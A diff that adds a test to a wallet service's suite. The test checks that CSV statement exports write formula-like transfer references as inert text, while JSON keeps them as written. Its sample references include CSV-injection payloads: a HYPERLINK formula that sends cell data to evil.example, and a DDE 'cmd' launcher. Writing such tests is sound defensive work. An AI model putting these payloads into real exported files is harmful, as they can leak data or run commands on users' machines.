@@ -118,6 +118,30 @@ test('CSV: header row, RFC 4180 quoting, CRLF, exact decimals, opening and closi
   expect(rows[3]!.created_at).toBe(to.toISOString());
 });
 
+test('CSV: a reference a spreadsheet would run as a formula (CSV injection) is written as text, in the receiver\'s statement too', async () => {
+  const xena = await m.wallet('xena');
+  const yuri = await m.wallet('yuri');
+  const from = new Date(Date.now() - 1000);
+  await m.topup('xena', xena, '5.00');
+  const refs = ['=HYPERLINK("http://evil.example/?x="&A1,"refund")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', 'plain = text'];
+  for (const reference of refs) {
+    const r = await m.post('/wallet/transfer/', { env_id: Number(m.envId), user_id: 'xena', wallet_id: Number(xena), to_wallet_id: Number(yuri), amount: '0.01', reference });
+    expect(r.status).toBe(200);
+  }
+  await pause(20);
+  const to = new Date();
+  const res = await m.get(`/wallet/${yuri}/statement/`, { env_id: m.envId, from: from.toISOString(), to: to.toISOString(), format: 'csv' });
+  expect(res.status).toBe(200);
+  const rows = parseCsv(res.text, { columns: true }) as Record<string, string>[];
+  const lines = rows.filter((r) => r.type === 'transfer');
+  expect(lines.map((r) => r.reference)).toEqual(["'" + refs[0], "'" + refs[1], "'" + refs[2], "'" + refs[3], refs[4]]);
+  // Our own numbers keep their sign; JSON keeps the reference as written.
+  const xenas = await m.get(`/wallet/${xena}/statement/`, { env_id: m.envId, from: from.toISOString(), to: to.toISOString(), format: 'csv' });
+  expect((parseCsv(xenas.text, { columns: true }) as Record<string, string>[]).filter((r) => r.type === 'transfer').map((r) => r.amount)).toEqual(refs.map(() => '-0.01'));
+  const json = await m.get(`/wallet/${yuri}/statement/`, { env_id: m.envId, from: from.toISOString(), to: to.toISOString() });
+  expect(json.body.lines.map((l: { reference: string }) => l.reference)).toEqual(refs);
+});
+
 test('refusals: from >= to, bad format, missing bounds 422; another user 404; another environment 403', async () => {
   const w = await m.wallet('erin');
   const now = new Date().toISOString();
